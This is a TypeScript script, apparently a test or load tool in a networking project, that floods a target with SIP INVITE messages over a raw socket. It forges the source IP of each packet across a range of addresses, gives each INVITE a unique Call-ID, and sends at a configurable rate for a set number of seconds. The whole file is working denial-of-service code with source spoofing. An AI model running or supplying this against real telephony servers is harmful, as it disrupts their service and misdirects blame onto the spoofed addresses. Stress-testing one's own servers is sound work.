// A program that floods: INVITEs from addresses that it has not got, each with a Call-ID of its own, as many per second as it
// is told, through a raw socket. `node flooder.ts TO PORT FIRST SOURCES PER_SECOND SECONDS`; prints how many it sent.

import { ENDPOINT_WORDS, parseEndpoint } from "../../src/net/endpoint.ts";
import {
  IOVEC_BYTES,
  Memory,
  MMSGHDR_BYTES,
  NAME_BYTES,
  nameBytes,
  wireHeader,
  wireIovec,
  writeName,
} from "../../src/net/layout.ts";
import { AF_INET, loadLibc } from "../../src/net/libc.ts";

const [to = "", port = "", first = "", sources = "", perSecond = "", seconds = ""] = process.argv.slice(2);
const SOCK_RAW = 3;
const IPPROTO_RAW = 255;
const UDP = 17;
const BATCH = 64;
const SLOT = 1024;
const HEADERS = 28;
const ID = "00000000";

const loaded = loadLibc();
if (!loaded.ok) throw new Error(loaded.reason);
const { libc } = loaded;
const target = new Int32Array(ENDPOINT_WORDS);
const origin = new Int32Array(ENDPOINT_WORDS);
if (!parseEndpoint(to, Number(port), target, 0) || !parseEndpoint(first, 0, origin, 0)) throw new Error("no addresses");
const socket = libc.socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
if (socket < 0) throw new Error(`raw socket: errno ${libc.errno()}`);

const sip = Buffer.from(
  `INVITE sip:bob@example.com SIP/2.0\r\nVia: SIP/2.0/UDP phone.invalid:5060;branch=z9hG4bK-${ID};rport\r\nMax-Forwards: 70\r\n` +
    `From: "Somebody" <sip:somebody@example.com>;tag=${ID}\r\nTo: <sip:bob@example.com>\r\nCall-ID: ${ID}@phone.invalid\r\n` +
    `CSeq: 1 INVITE\r\nContact: <sip:somebody@phone.invalid:5060>\r\nUser-Agent: Phone/1.0\r\nContent-Length: 0\r\n\r\n`,
  "latin1",
);
const places: number[] = [];
for (let at = sip.indexOf(ID); at >= 0; at = sip.indexOf(ID, at + 1)) places.push(at);

const packets = new Memory(libc, BATCH * SLOT);
const bytes = Buffer.from(packets.buffer);
const names = new Memory(libc, NAME_BYTES);
const iovecs = new Memory(libc, BATCH * IOVEC_BYTES);
const headers = new Memory(libc, BATCH * MMSGHDR_BYTES);
/** Exported, or the collector would take what only the system still reads. */
export const memory: readonly Memory[] = [packets, names, iovecs, headers];
writeName(names.words, 0, false, target, 0);
for (let i = 0; i < BATCH; i++) {
  const at = i * SLOT;
  bytes[at] = 0x45;
  bytes[at + 8] = 64;
  bytes[at + 9] = UDP;
  bytes.writeInt32BE(target[3]!, at + 16);
  bytes.writeUInt16BE(5060, at + 20);
  bytes.writeUInt16BE(target[4]!, at + 22);
  bytes.writeUInt16BE(8 + sip.length, at + 24);
  sip.copy(bytes, at + HEADERS);
  wireIovec(iovecs.words, i, packets.address + at, HEADERS + sip.length);
  wireHeader(headers, i, names.address, nameBytes(false), iovecs.address + i * IOVEC_BYTES);
}

const never = new Int32Array(new SharedArrayBuffer(4));
const start = performance.now();
const end = start + Number(seconds) * 1000;
let sent = 0;
for (let now = start; now < end; now = performance.now()) {
  const due = Math.floor(((now - start) * Number(perSecond)) / 1000) - sent;
  if (due < BATCH) {
    Atomics.wait(never, 0, 0, 1);
    continue;
  }
  for (let i = 0; i < BATCH; i++) {
    const serial = sent + i;
    const at = i * SLOT;
    bytes.writeInt32BE(origin[3]! + (serial % Number(sources)), at + 12);
    const id = serial.toString(16).padStart(ID.length, "0");
    for (const place of places) bytes.write(id, at + HEADERS + place, "latin1");
  }
  const got = libc.sendmmsg(socket, headers.address, BATCH, 0);
  if (got < 0) throw new Error(`sendmmsg: errno ${libc.errno()}`);
  sent += got;
}
console.log(String(sent));
